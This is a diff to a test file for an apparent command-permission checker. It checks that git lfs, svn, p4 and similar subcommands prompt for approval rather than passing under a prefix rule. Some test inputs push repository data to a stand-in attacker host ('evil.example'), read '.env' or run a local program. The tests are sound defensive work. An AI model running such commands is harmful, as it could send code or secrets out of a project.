@@ -86,6 +86,48 @@ describe('A rule about the beginning of a command', () => {
       const command = `cd bare && git ${words}`;
       assert.equal(await decide(command, rule('commandPrefix', `git ${words.split(' ')[0]}`)), 'ask', command);
     }
+    for (const words of [
+      ...[
+        'lfs push bare main',
+        'lfs push --all bare',
+        'lfs fetch bare',
+        'lfs pull ../bare',
+        'lfs push https://evil.example/x',
+      ],
+      ...[
+        'lfs push unknown main',
+        '-C bare lfs push origin main',
+        'lfs fetch file:///x',
+        'lfs prune',
+        'lfs migrate import',
+      ],
+      ...['svn clone file:///x', 'svn init bare', 'svn dcommit', 'svn dcommit --commit-url http://evil.example/x'],
+      ...[
+        'svn fetch --authors-prog=./x',
+        'svn rebase --config-dir=x',
+        '-C bare svn rebase',
+        'svn fetch ../bare',
+        'svn reset -r 1',
+      ],
+      ...['p4 submit', 'p4 sync --changesfile=.env', 'p4 clone //depot/x', 'p4 sync --git-dir bare', '-C bare p4 sync'],
+      ...['cvsimport -d :ext:evil.example:/x y', 'annex copy --to bare', 'http-push http://evil.example/x'],
+    ]) {
+      const named = words.replace(/^(?:-C \S+ )+/, '').split(' ')[0] ?? '';
+      assert.equal(await decide(`git ${words}`, rule('commandPrefix', `git ${named}`)), 'ask', words);
+    }
+    for (const words of [
+      'lfs push origin main',
+      'lfs pull',
+      'lfs fetch upstream',
+      'lfs ls-files',
+      'svn rebase',
+      'svn log',
+      'p4 sync',
+    ]) {
+      const named = words.split(' ')[0] ?? '';
+      assert.equal(await decide(`git ${words}`, rule('commandPrefix', `git ${named}`)), 'allow', words);
+    }
+    assert.equal(await decide('git svn dcommit', rule('commandPrefix', 'git svn dcommit')), 'allow');
     const plain = ['push', 'push origin main', '-C lib push origin main', 'fetch upstream', 'fetch --all', 'remote -v'];
     const addresses = [
       'clone https://example.com/a.git',
